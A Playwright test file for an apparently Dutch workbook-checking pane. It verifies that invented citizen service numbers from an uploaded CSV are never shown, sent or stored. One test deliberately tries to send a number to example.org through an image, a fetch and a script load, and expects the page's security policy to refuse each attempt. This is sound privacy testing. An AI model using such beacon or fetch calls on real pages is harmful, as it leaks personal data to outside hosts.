import type { Browser, Frame } from 'playwright-core';
import { COLUMNS } from '../../src/meting/form/columns';
import { address, connect, Workbench } from './workbench-page';

/** Invented numbers that pass the elfproef. */
const persons = ['123456782', '111222333', '100000009'];

/** A meting with mistakes in it, and persons in its rows, its remarks and its name. */
function brokenMeting(): { readonly name: string; readonly mimeType: string; readonly buffer: Buffer } {
  const headings = [...COLUMNS.map(({ nl }) => nl), 'Opmerking'];
  const row = (bsn: string) =>
    headings
      .map((heading) => (heading === 'BSN' ? bsn : heading === 'Opmerking' ? `zie ${bsn}` : 'x'))
      .join(';');
  const text = [headings.join(';'), ...persons.map(row)].join('\r\n');
  return { name: `Meting ${persons[0] ?? ''}.csv`, mimeType: 'text/csv', buffer: Buffer.from(text) };
}

describe('nothing leaves the machine', () => {
  let browser: Browser;
  let workbench: Workbench;
  let pane: Frame;
  let shownWithFindings = '';
  /** Everything that could carry data: what was asked for, and what went along with it. */
  const sent: { readonly url: string; readonly method: string; readonly body: string }[] = [];
  /** What was stopped, and by what. */
  const stopped = new Map<string, string>();

  beforeAll(async () => {
    browser = await connect();
    workbench = await Workbench.open(browser);
    workbench.page.context().on('request', (request) => {
      sent.push({ url: request.url(), method: request.method(), body: request.postData() ?? '' });
    });
    workbench.page.context().on('requestfailed', (request) => {
      stopped.set(request.url(), request.failure()?.errorText ?? '');
    });
    const frame = workbench.page.frames().find((each) => each.url().includes('pane.html'));
    if (frame === undefined) throw new Error('the page shows no pane');
    pane = frame;
  });

  afterAll(async () => {
    await workbench.close();
    await browser.close();
  });

  test('checking a broken file and the open workbook', async () => {
    const inPane = workbench.pane;
    await inPane.getByRole('button', { name: 'Controleer bestanden' }).first().click();
    await inPane.locator('input[type=file]').first().setInputFiles(brokenMeting());
    await inPane.getByText('******782', { exact: false }).first().waitFor();
    shownWithFindings = await pane.evaluate(() => document.documentElement.outerHTML);
    await inPane.getByRole('button', { name: 'Alle bestanden' }).click();
    await inPane.getByRole('button', { name: 'Controleer deze werkmap' }).first().click();
    await inPane.getByRole('button', { name: 'Alle bestanden' }).waitFor();
  });

  test('the pane shows no number of a person of the file it was given', async () => {
    const seen = [shownWithFindings, await pane.evaluate(() => document.documentElement.outerHTML)];
    const around = seen.flatMap((page) =>
      persons.flatMap((person) => page.match(new RegExp(`.{60}${person}`)) ?? []),
    );
    expect(around).toEqual([]);
  });

  test('every request went to where the page came from, fetched a file, and carried nothing', () => {
    expect(workbench.requests.length).toBeGreaterThan(5);
    const elsewhere = workbench.requests.filter(
      (url) => !url.startsWith(`${address}/`) && !/^(data|blob):/.test(url),
    );
    expect(elsewhere).toEqual([]);
    expect(sent.filter(({ method, body }) => method !== 'GET' || body !== '')).toEqual([]);
    // An address can carry data as well; a font of the workbench carries its version.
    const questions = workbench.requests.filter((url) => url.startsWith(address) && url.includes('?'));
    expect(questions.filter((url) => !url.includes('/workbench/vendor/'))).toEqual([]);
    expect(workbench.requests.filter((url) => persons.some((person) => url.includes(person)))).toEqual([]);
  });

  test('the page itself refuses to send: its policy stops what a script would try', async () => {
    const tried = await pane.evaluate(async () => {
      const refused = async (attempt: () => unknown) => {
        try {
          await attempt();
          return 'sent';
        } catch {
          return 'refused';
        }
      };
      const image = await new Promise<string>((resolve) => {
        const picture = new Image();
        picture.onload = () => {
          resolve('sent');
        };
        picture.onerror = () => {
          resolve('refused');
        };
        picture.src = 'https://example.org/a.png?123456782';
      });
      return {
        image,
        fetch: await refused(() => fetch('https://example.org/?123456782')),
        script: await new Promise<string>((resolve) => {
          const script = document.createElement('script');
          script.onload = () => {
            resolve('sent');
          };
          script.onerror = () => {
            resolve('refused');
          };
          try {
            script.src = 'https://example.org/a.js';
            document.head.append(script);
          } catch {
            // Where the browser knows Trusted Types the address itself is refused.
            resolve('refused');
          }
        }),
        evaluate: await refused(() => new Function('return 1')() as unknown),
      };
    });
    expect(tried).toEqual({ image: 'refused', fetch: 'refused', script: 'refused', evaluate: 'refused' });
    // By the policy, before anything got onto the network.
    const tries = sent.filter(({ url }) => url.includes('example.org')).map(({ url }) => stopped.get(url));
    expect(tries.filter((reason) => reason !== 'csp')).toEqual([]);
  });

  test('nothing of a workbook is kept in the browser', async () => {
    const kept = await pane.evaluate(async () => ({
      storage: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      cookies: document.cookie,
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
    }));
    expect(kept.storage.filter((key) => key !== 'banenafspraak.settings')).toEqual([]);
    expect({ ...kept, storage: [] }).toEqual({
      storage: [],
      session: [],
      cookies: '',
      databases: [],
      caches: [],
    });
  });
});
